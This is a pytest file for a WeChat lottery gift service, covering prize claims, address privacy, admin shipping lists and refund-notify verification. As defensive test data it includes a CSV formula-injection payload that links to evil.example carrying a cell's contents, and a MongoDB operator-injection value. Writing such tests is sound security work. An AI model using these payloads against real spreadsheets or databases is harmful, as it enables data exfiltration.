"""After the draw, over HTTP: a winner claims the prize with an address (theirs alone to see), the
sender follows the claims and the order's refunds, the operator ships from the shipping list, and
WeChat Pay's refund notify is trusted only once verified. The refund rules themselves (what is
refunded, exactly once) are tested in the domain: tests/lottery/test_refunds.py."""
import asyncio
import csv
import io
import json
from datetime import timedelta

import pytest

from lottery.accounts import member_id_for
from lottery.refunds import Refunds
from tests.gifts import make_due
from tests.shop import ADDRESS, bought_gift, check_money, drain, product


@pytest.fixture
def app(build_app, payments):
    return build_app(payments=payments)


@pytest.fixture
def refunds(db, payments) -> Refunds:
    """A refund worker as the scheduler runs one, with WeChat Pay's spacing and query delay
    shortened for tests."""
    return Refunds(db, payments, backoff_base=0.05, backoff_cap=0.2, spacing=timedelta(0),
                   query_after=timedelta(milliseconds=200))


@pytest.fixture
def pay_fake(pay_fake):
    pay_fake.refund_interval = 0  # tests make several refunds of one order within a minute
    return pay_fake


async def open_full_gift_at_deadline(app, db, order_id: str) -> None:
    await make_due(db, order_id)
    # A join near the last seats nudged the draw, which may open it first now that it is due.
    await app.settings["draws"].sweep()
    await app.settings["draws"].idle()
    assert (await db.gifts.find_one({"_id": order_id}))["status"] == "finished"


async def claims_opened(app) -> None:
    await app.settings["claims"].sweep()


@pytest.mark.gen_test(timeout=120)
async def test_a_forged_refund_notify_changes_nothing(api, app, db, pay_fake, refunds):
    cup = await product(api, "保温杯", 12900, 10)
    order_id = await bought_gift(api, pay_fake, await api.login("buyer"), (cup, 1), method="full", open_number=5)
    await open_full_gift_at_deadline(app, db, order_id)
    await refunds.run_once()
    record = await db.refunds.find_one({"order_id": order_id})
    await pay_fake.complete_refund(record["_id"], "SUCCESS", notify=False)  # done; its notify lost
    deliveries = await pay_fake.send_refund_notify(record["_id"], fault="bad_signature")
    assert {d.status for d in deliveries} == {401}
    assert (await db.refunds.find_one({"_id": record["_id"]}))["status"] == "processing"
    await check_money(db)


@pytest.mark.gen_test(timeout=120)
@pytest.mark.parametrize("fault, logged", [("wrong_amount", "does not match the record"),
                                           ("wrong_trade_no", "does not match the record"),
                                           ("unknown_refund_no", "unknown refund")])
async def test_a_verified_refund_notify_that_does_not_match_its_record_changes_nothing(
        api, app, db, pay_fake, refunds, caplog, fault, logged):
    caplog.set_level("INFO")
    pay_fake.notify_retry_delays = ()  # one delivery: what our answer is, not what WeChat Pay does next
    cup = await product(api, "保温杯", 12900, 10)
    order_id = await bought_gift(api, pay_fake, await api.login("buyer"), (cup, 1), method="full", open_number=5)
    await open_full_gift_at_deadline(app, db, order_id)
    await refunds.run_once()
    record = await db.refunds.find_one({"order_id": order_id})
    await pay_fake.complete_refund(record["_id"], "SUCCESS", notify=False)  # done; its notify lost
    [delivery] = await pay_fake.send_refund_notify(record["_id"], fault=fault)
    assert delivery.status == 400 and json.loads(delivery.answer)["code"] == "PARAM_ERROR"  # as a payment's
    assert (await db.refunds.find_one({"_id": record["_id"]}))["status"] == "processing"
    gift = await db.gifts.find_one({"_id": order_id})
    assert gift["order"]["amount_refunding"] == 12900 and not gift["order"].get("amount_refunded")
    assert await db.outbox.count_documents({"message": "gift_refunded"}) == 0
    warnings = [r for r in caplog.records if r.levelname == "WARNING" and logged in r.getMessage()]
    assert len(warnings) == 1 and "already known" not in caplog.text
    assert pay_fake.apiv3_key not in caplog.text
    [delivery] = await pay_fake.send_refund_notify(record["_id"])  # the true notify still ends it
    assert delivery.status == 204
    assert (await db.refunds.find_one({"_id": record["_id"]}))["status"] == "success"
    await check_money(db)


@pytest.mark.gen_test(timeout=120)
async def test_the_winner_claims_with_an_address_only_they_and_the_operator_see(api, app, db, pay_fake):
    cup = await product(api, "保温杯", 12900, 10)
    buyer = await api.login("buyer")
    order_id = await bought_gift(api, pay_fake, buyer, (cup, 1), method="direct")
    winner, other = await api.login("winner"), await api.login("other")
    await api.join(winner, order_id)
    status, claim = await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=winner)
    assert status == 200 and claim["status"] == "claimed" and claim["address"] == ADDRESS
    # The sender sees who (masked) and where it stands, never where it goes.
    status, seen = await api.request("GET", f"/api/v1/gifts/{order_id}/claims", token=buyer)
    assert status == 200 and seen["claims"][0]["status"] == "claimed" and seen["claims"][0]["winner"] == "微**户"
    assert "address" not in seen["claims"][0] and ADDRESS["telNumber"] not in str(seen)
    assert (await api.request("GET", f"/api/v1/gifts/{order_id}/claims", token=other))[0] == 403
    assert (await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=other))[0] == 403
    assert (await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=buyer))[0] == 403
    assert (await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS))[0] == 401
    status, others = await api.request("GET", "/api/v1/me/prizes", token=other)
    assert others == {"prizes": []}
    # The operator ships it; the address is then locked, and the winner is told.
    status, listed = await api.request("GET", "/api/admin/claims?status=claimed", token=api.admin_token)
    assert status == 200 and listed["claims"][0]["address"] == ADDRESS
    claim_id = listed["claims"][0]["claim_id"]
    status, shipped = await api.request("POST", f"/api/admin/claims/{claim_id}/ship",
                                        {"carrier": "顺丰", "tracking_no": "SF123"}, token=api.admin_token)
    assert status == 200 and shipped["status"] == "shipped"
    status, answer = await api.request("POST", f"/api/v1/gifts/{order_id}/claim", {**ADDRESS, "cityName": "深圳市"},
                                       token=winner)
    assert status == 409 and answer["error"]["code"] == "claim_locked"
    winner_id = (await db.claims.find_one({"_id": claim_id}))["winner_id"]
    assert await db.outbox.count_documents({"message": "prize_shipped", "member_id": winner_id}) == 1
    status, prizes = await api.request("GET", "/api/v1/me/prizes", token=winner)
    assert [(p["status"], p["tracking_no"]) for p in prizes["prizes"]] == [("shipped", "SF123")]
    status, seen = await api.request("GET", f"/api/v1/gifts/{order_id}/claims", token=buyer)
    [item] = seen["claims"]  # the sender sees it shipped, and by whom, but not the tracking number
    assert (item["status"], item["carrier"], item["tracking_no"]) == ("shipped", "顺丰", None)
    assert "SF123" not in str(seen)
    status, done = await api.request("POST", f"/api/admin/claims/{claim_id}/delivered", {}, token=api.admin_token)
    assert status == 200 and done["status"] == "delivered"
    # Lists past shipping need no address in full.
    status, delivered = await api.request("GET", "/api/admin/claims?status=delivered", token=api.admin_token)
    [listed] = delivered["claims"]
    assert listed["address"]["telNumber"] == "*******8000" and listed["address"]["userName"] == "张*"
    assert ADDRESS["detailInfo"] not in str(delivered) and ADDRESS["telNumber"] not in str(delivered)
    await check_money(db)


@pytest.mark.gen_test(timeout=120)
async def test_twenty_racing_taps_make_one_claim(api, app, db, pay_fake):
    cup = await product(api, "保温杯", 12900, 10)
    order_id = await bought_gift(api, pay_fake, await api.login("buyer"), (cup, 1), method="direct")
    winner = await api.login("winner")
    await api.join(winner, order_id)
    bodies = [{**ADDRESS, "detailInfo": f"{i} 号"} for i in range(20)]
    answers = await asyncio.gather(*(api.request("POST", f"/api/v1/gifts/{order_id}/claim", b, token=winner)
                                     for b in bodies))
    assert {s for s, _ in answers} == {200}
    [claim] = await db.claims.find({"order_id": order_id}).to_list()
    assert claim["status"] == "claimed" and claim["address"]["detailInfo"] in {b["detailInfo"] for b in bodies}


@pytest.mark.gen_test(timeout=60)
@pytest.mark.parametrize("change, code", [
    ({"telNumber": "12345"}, "invalid_input"),
    ({"telNumber": {"$ne": None}}, "invalid_input"),
    ({"userName": ""}, "missing_params"),
    ({"detailInfo": "x" * 121}, "invalid_input"),
    ({"detailInfo": "1号\u0000楼"}, "invalid_input"),
    ({"postalCode": "5100"}, "invalid_input"),
    ({"cityName": 5}, "invalid_input"),
])
async def test_a_malformed_address_is_refused_and_nothing_is_stored(api, app, db, pay_fake, change, code):
    cup = await product(api, "保温杯", 12900, 10)
    order_id = await bought_gift(api, pay_fake, await api.login("buyer"), (cup, 1), method="direct")
    winner = await api.login("winner")
    await api.join(winner, order_id)
    status, answer = await api.request("POST", f"/api/v1/gifts/{order_id}/claim", {**ADDRESS, **change}, token=winner)
    assert status == 400 and answer["error"]["code"] == code
    assert await db.claims.count_documents({"status": "claimed"}) == 0


@pytest.mark.gen_test(timeout=60)
async def test_claims_on_lost_or_unopened_gifts_and_shipping_an_unclaimed_item_are_refused(api, app, db, pay_fake):
    cup = await product(api, "保温杯", 12900, 10)
    order_id = await bought_gift(api, pay_fake, await api.login("buyer"), (cup, 1), method="full", open_number=2)
    a, b = await api.login("a"), await api.login("b")
    await api.join(a, order_id)
    status, answer = await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=a)
    assert status == 403 and answer["error"]["code"] == "not_winner"  # not opened yet
    await api.join(b, order_id)
    await app.settings["draws"].idle()
    gift = await db.gifts.find_one({"_id": order_id})
    winner_key, loser = (a, b) if gift["draw"]["winners"] == [member_id_for("o_a")] else (b, a)
    status, answer = await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=loser)
    assert status == 403 and answer["error"]["code"] == "not_winner"
    await claims_opened(app)
    [claim] = await db.claims.find({"order_id": order_id}).to_list()
    status, answer = await api.request("POST", f"/api/admin/claims/{claim['_id']}/ship",
                                       {"carrier": "顺丰", "tracking_no": "1"}, token=api.admin_token)
    assert status == 409 and answer["error"]["code"] == "wrong_claim_state"
    assert (await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=winner_key))[0] == 200
    assert (await api.request("POST", "/api/admin/claims/nope:1/ship", {"carrier": "a", "tracking_no": "1"},
                              token=api.admin_token))[0] == 404


@pytest.mark.gen_test(timeout=60)
async def test_the_winner_reads_their_claim_from_the_moment_they_win_and_only_they_do(api, app, db, pay_fake):
    cup = await product(api, "保温杯", 12900, 10)
    buyer = await api.login("buyer")
    order_id = await bought_gift(api, pay_fake, buyer, (cup, 1), method="direct")
    winner, other = await api.login("winner"), await api.login("other")
    await api.join(winner, order_id)
    # Before the background opened the claim, it reads as it will be opened.
    assert await db.claims.count_documents({}) == 0
    status, claim = await api.request("GET", f"/api/v1/gifts/{order_id}/claim", token=winner)
    assert status == 200 and claim["status"] == "unclaimed" and "address" not in claim
    assert claim["claim_id"] == f"{order_id}:0" and claim["item"]["name"] == "保温杯"
    await claims_opened(app)
    status, opened = await api.request("GET", f"/api/v1/gifts/{order_id}/claim", token=winner)
    assert opened == claim
    await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=winner)
    status, claimed = await api.request("GET", f"/api/v1/gifts/{order_id}/claim", token=winner)
    assert claimed["status"] == "claimed" and claimed["address"] == ADDRESS
    assert claimed["deadline_at"] == claim["deadline_at"]
    for key, code in ((other, 403), (buyer, 403), (None, 401)):
        assert (await api.request("GET", f"/api/v1/gifts/{order_id}/claim", token=key))[0] == code


@pytest.mark.gen_test(timeout=120)
async def test_the_sender_sees_items_won_moments_ago_and_where_the_orders_refunds_stand(
        api, app, db, pay_fake, refunds):
    cup, tea = await product(api, "保温杯", 12900, 10), await product(api, "奶茶券", 1800, 10)
    buyer = await api.login("buyer")
    order_id = await bought_gift(api, pay_fake, buyer, (cup, 1), (tea, 1), method="full", open_number=5)
    await api.join(await api.login("only"), order_id)
    await open_full_gift_at_deadline(app, db, order_id)
    # Drawn, its claim not opened yet, nothing refunded yet: listed all the same.
    status, seen = await api.request("GET", f"/api/v1/gifts/{order_id}/claims", token=buyer)
    assert status == 200 and [(c["item_index"], c["status"], c["winner"]) for c in seen["claims"]] == [(0, "unclaimed", "微**户")]
    assert seen["refunds"] == []
    assert seen["order"] == {"status": "paid", "amount_total": 14700, "amount_refunded": 0, "amount_refunding": 0,
                             "amount_to_refund": 1800}
    await claims_opened(app)
    await drain(refunds, pay_fake, db)
    status, seen = await api.request("GET", f"/api/v1/gifts/{order_id}/claims", token=buyer)
    assert [(c["item_index"], c["status"]) for c in seen["claims"]] == [(0, "unclaimed")]
    assert [(r["amount"], r["items"], r["status"]) for r in seen["refunds"]] == [(1800, [1], "success")]
    assert seen["order"] == {"status": "partially_refunded", "amount_total": 14700, "amount_refunded": 1800,
                             "amount_refunding": 0, "amount_to_refund": 0}


@pytest.mark.gen_test(timeout=60)
async def test_the_sender_sees_a_direct_gifts_recipients_before_their_claims_open(api, app, db, pay_fake):
    tea = await product(api, "奶茶券", 1800, 10)
    buyer = await api.login("buyer")
    order_id = await bought_gift(api, pay_fake, buyer, (tea, 3), method="direct")
    for name in ("a", "b"):
        await api.join(await api.login(name), order_id)
    status, seen = await api.request("GET", f"/api/v1/gifts/{order_id}/claims", token=buyer)
    assert [(c["item_index"], c["status"]) for c in seen["claims"]] == [(0, "unclaimed"), (1, "unclaimed")]
    await claims_opened(app)
    status, again = await api.request("GET", f"/api/v1/gifts/{order_id}/claims", token=buyer)
    assert again["claims"] == seen["claims"]


@pytest.mark.gen_test(timeout=60)
async def test_the_shipping_list_comes_as_json_or_csv_and_another_format_is_refused(api, app, db, pay_fake):
    cup = await product(api, "保温杯", 12900, 10)
    order_id = await bought_gift(api, pay_fake, await api.login("buyer"), (cup, 1), method="direct")
    winner = await api.login("winner")
    await api.join(winner, order_id)
    assert (await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=winner))[0] == 200
    response = await api.http.fetch(api.base_url + "/api/admin/claims?status=claimed&format=csv",
                                    headers={"Authorization": f"Bearer {api.admin_token}"})
    assert response.headers["Content-Type"].startswith("text/csv")
    header, row = response.body.decode().splitlines()
    assert header.startswith("claim_id,order_id,item,userName") and f"{order_id}:0,{order_id},保温杯,张三" in row
    # An unknown format is a mistake, not a JSON answer.
    status, answer = await api.request("GET", "/api/admin/claims?format=xml", token=api.admin_token)
    assert status == 400 and answer["error"]["code"] == "invalid_input"


@pytest.mark.gen_test(timeout=60)
async def test_shipping_list_csv_cells_that_would_start_a_formula_begin_with_a_quote(api, app, db, pay_fake):
    cup = await product(api, "保温杯", 12900, 10)
    order_id = await bought_gift(api, pay_fake, await api.login("buyer"), (cup, 1), method="direct")
    winner = await api.login("winner")
    await api.join(winner, order_id)
    assert (await api.request("POST", f"/api/v1/gifts/{order_id}/claim", ADDRESS, token=winner))[0] == 200
    # Tab and carriage return never pass the claim's checks: written as if stored before them.
    hostile = {"userName": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "provinceName": "+1+1",
               "cityName": "-2+3", "countyName": "@SUM(1,2)", "detailInfo": "\t=1+1", "postalCode": "\r=1"}
    await db.claims.update_one({"order_id": order_id}, {"$set": {
        **{f"address.{name}": value for name, value in hostile.items()}, "item.name": "=1+1"}})
    response = await api.http.fetch(api.base_url + "/api/admin/claims?status=claimed&format=csv",
                                    headers={"Authorization": f"Bearer {api.admin_token}"})
    [row] = list(csv.DictReader(io.StringIO(response.body.decode(), newline="")))
    for name, value in {**hostile, "item": "=1+1"}.items():
        assert row[name] == "'" + value, name
    assert row["telNumber"] == ADDRESS["telNumber"] and row["order_id"] == order_id  # harmless: as it was
